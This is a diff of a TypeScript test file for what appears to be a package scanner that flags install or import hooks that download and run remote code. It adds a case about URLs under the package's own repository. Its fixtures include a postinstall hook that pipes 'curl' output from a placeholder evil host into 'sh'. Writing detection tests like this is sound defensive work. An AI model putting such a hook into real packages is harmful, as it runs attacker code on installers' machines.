@@ -58,6 +58,15 @@ describe('downloads-and-runs', () => {
     expect(reached(kind, evaluates('http://203.0.113.5/t'))).toBe(hostile)
   })
 
+  it('does not take for its own code what its repository holds at that moment', () => {
+    const imported = (url: string): string | undefined => findingsIn(packageOf({
+      says: '', ecosystem: 'npm', files: { 'package.json': '{"repository":"me/tool"}', 'i.js': evaluates(url) }, triggers: [{ kind: 'import', name: 'i', file: 'i.js' }],
+    }), downloadsAndRuns)[0]?.severity
+    expect(imported('https://raw.githubusercontent.com/me/tool/main/x.js')).toBe('critical')
+    expect(imported('https://gist.githubusercontent.com/me/1/raw/x.js')).toBe('critical')
+    expect(imported('https://github.com/me/tool/releases/download/1/x.js')).toBe('low')
+  })
+
   it('says what it saw, in order', () => {
     const [finding] = findingsIn(packageOf({ says: '', ecosystem: 'npm', files: {
       'package.json': '{\n  "scripts": {\n    "postinstall": "curl -s https://cdn.evil.example/x | sh"\n  }\n}' } }), downloadsAndRuns)
